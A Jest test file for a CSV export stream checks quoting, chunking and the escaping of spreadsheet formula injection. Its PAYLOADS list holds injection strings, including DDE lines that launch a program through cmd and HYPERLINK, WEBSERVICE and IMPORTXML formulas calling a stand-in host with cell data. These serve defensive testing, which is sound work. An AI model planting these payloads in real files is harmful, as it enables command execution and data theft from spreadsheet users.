import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { csvStream, QUOTING } from '../../src/artefacts/csv.ts';
import { escapeCell, unescapeCell } from '../../src/artefacts/formula.ts';
import { all, check, pageOf, type TextRow } from './support.ts';

const csv = async (columns: string[], rows: TextRow[], options?: { bom?: boolean }) =>
  (await all(csvStream(columns, options)([pageOf(rows)]))).toString();

test('rows become RFC 4180 lines under a header', async () => {
  const rows = [
    ['1', 'said "hi"'],
    ['x,y', 'two\r\nlines'],
    [null, ''],
    ['true', '1970-01-01T00:00:00.000Z'],
    ['9', '{"k":[1]}'],
  ];
  expect(await csv(['a', 'b'], rows)).toBe(
    'a,b\r\n1,"said ""hi"""\r\n"x,y","two\r\nlines"\r\n,\r\ntrue,1970-01-01T00:00:00.000Z\r\n9,"{""k"":[1]}"\r\n',
  );
});

test('a table without rows still has its header, and the byte order mark comes first and once', async () => {
  expect(await csv(['a', 'b'], [])).toBe('a,b\r\n');
  expect(await csv(['a'], [['é']], { bom: true })).toBe('\uFEFFa\r\né\r\n');
});

test('a line break of one character is quoted, as most readers end a row there', async () => {
  const cells = ['two\nlines', 'two\rlines', 'a\n=1+1'];
  const text = await csv(['a', 'b', 'c'], [cells]);
  expect(text).toBe('a,b,c\r\n"two\nlines","two\rlines","a\n=1+1"\r\n');
  expect(parse(text, { record_delimiter: ['\r\n', '\n', '\r'] })).toEqual([['a', 'b', 'c'], cells]);
});

test('a cell with a semicolon or a tab is quoted, at which some programs split', async () => {
  expect(await csv(['a', 'b'], [['hello;=1+1', 'a\t=1']])).toBe('a,b\r\n"hello;=1+1","a\t=1"\r\n');
});

test('a column whose name has a dot is a column like any other', async () => {
  expect(await csv(['a.b'], [['1']])).toBe('a.b\r\n1\r\n');
});

test('rows leave in chunks of 512 kB, and one huge cell in one', async () => {
  const sizes: number[] = [];
  const rows = Array.from({ length: 80_000 }, (_, index) => [String(index), 'x'.repeat(100)]);
  for await (const chunk of csvStream(['n', 'text'])([pageOf(rows)])) sizes.push(chunk.length);
  expect(sizes.length).toBeGreaterThan(10);
  expect(sizes.length).toBeLessThan(20);
  for (const size of sizes.slice(0, -1)) expect(size).toBeGreaterThanOrEqual(512 * 1024);
  expect((await csv(['text'], [['y'.repeat(3_000_000)]])).length).toBe(3_000_008);
});

test('it is a stage of a pipeline, and a failing source fails the pipeline', async () => {
  const written: Buffer[] = [];
  const collect = async (chunks: AsyncIterable<Buffer>) => {
    for await (const chunk of chunks) written.push(chunk);
  };
  await pipeline(Readable.from([pageOf([['1']]), pageOf([['2']])]), csvStream(['n']), collect);
  expect(Buffer.concat(written).toString()).toBe('n\r\n1\r\n2\r\n');
  async function* failing() {
    yield pageOf([['1']]);
    throw new Error('the source broke');
  }
  await expect(pipeline(failing(), csvStream(['n']), collect)).rejects.toThrow('the source broke');
});

const PAYLOADS = [
  '=1+1',
  '+1+cmd',
  '-1+cmd',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\0=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\u2060\u200D=1+1',
  '\u202E=1+1',
  '\u3000=1+1',
  '\u00AD=1+1',
  '＝1+1',
  '＋1+cmd',
  '－1+cmd',
  '＠SUM(A1)',
  ' ＝1+1',
  '﹦1+1',
  '−1+cmd',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=HYPERLINK("http://x.example/?"&A1,"see")',
  '=WEBSERVICE("http://x.example")',
  '=IMPORTXML("http://x.example","//a")',
  '\ttext',
  '\rtext',
  '-',
  '+49 30 A1',
  '+49-HYPERLINK(1)',
  '-12.5+A1',
  '--1',
  '+',
  '\x1B\x7F =1+1',
];

test.each(PAYLOADS)('a spreadsheet does not run %j', async (payload) => {
  expect(escapeCell(payload)).toBe(`'${payload}`);
  const text = await csv(['a', 'b'], [[payload, 'after']]);
  const [, row] = parse(text, { record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
  expect(row).toEqual([`'${payload}`, 'after']);
});

test.each([
  '+49 30 1234567',
  '+49 (0)30/123-45-67',
  '+4930',
  '-12.5',
  '+3',
  '-1',
  '-1,234.50',
  '1e5',
  '-2.5E-7',
  '+5%',
  'a=b',
  "it's",
  'x@example.org',
  '',
])('%j stays as it is', (cell) => {
  expect(escapeCell(cell)).toBe(cell);
});

test('a number is written as a number, a negative one too', async () => {
  expect(await csv(['n'], [['-12.5'], ['-3']])).toBe('n\r\n-12.5\r\n-3\r\n');
});

const cell = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '\uFEFF', '＝', '1', '.', 'a', '"', ','), {
      maxLength: 8,
    })
    .map((c) => c.join('')),
);

test('escaping can be undone, whatever the cell', async () => {
  await check(
    fc.property(cell, (text) => expect(unescapeCell(escapeCell(text))).toBe(text)),
    5_000,
  );
});

test('no escaped cell begins with what a spreadsheet runs, but for numbers and phone numbers', async () => {
  await check(
    fc.property(cell, (text) => {
      const visible = escapeCell(text).replace(/^[\s\p{Cc}\p{Cf}\p{Z}\p{Default_Ignorable_Code_Point}]+/u, '');
      if (/^[=@＝＠＋－]/u.test(visible)) throw new Error('a formula');
      if (/^[+-]/.test(visible)) expect(visible).toMatch(/^[+-][\d ().,/eE%+-]*$/);
    }),
    5_000,
  );
});

test('a table read back and unescaped is the table that was written', async () => {
  await check(
    fc.asyncProperty(fc.array(fc.tuple(cell, cell, cell), { maxLength: 10 }), fc.boolean(), async (rows, bom) => {
      const text = await csv(['a', 'b', 'c'], rows, { bom });
      const [, ...read] = parse(bom ? text.slice(1) : text, { record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
      expect(read.map((row) => row.map(unescapeCell))).toEqual(rows);
    }),
    500,
  );
});

test('cells that csv-stringify is not asked for are written as it would', async () => {
  await check(
    fc.asyncProperty(fc.array(fc.tuple(cell, cell), { maxLength: 10 }), async (rows) => {
      const escaped = [['a', 'b'], ...rows.map((row) => row.map(escapeCell))];
      expect(await csv(['a', 'b'], rows)).toBe(stringify(escaped, QUOTING));
    }),
    500,
  );
});

test('a table of one column keeps its empty cells', async () => {
  const text = await csv(['a'], [[''], ['x'], [null]]);
  expect(parse(text, { skip_empty_lines: true })).toEqual([['a'], [''], ['x'], ['']]);
});
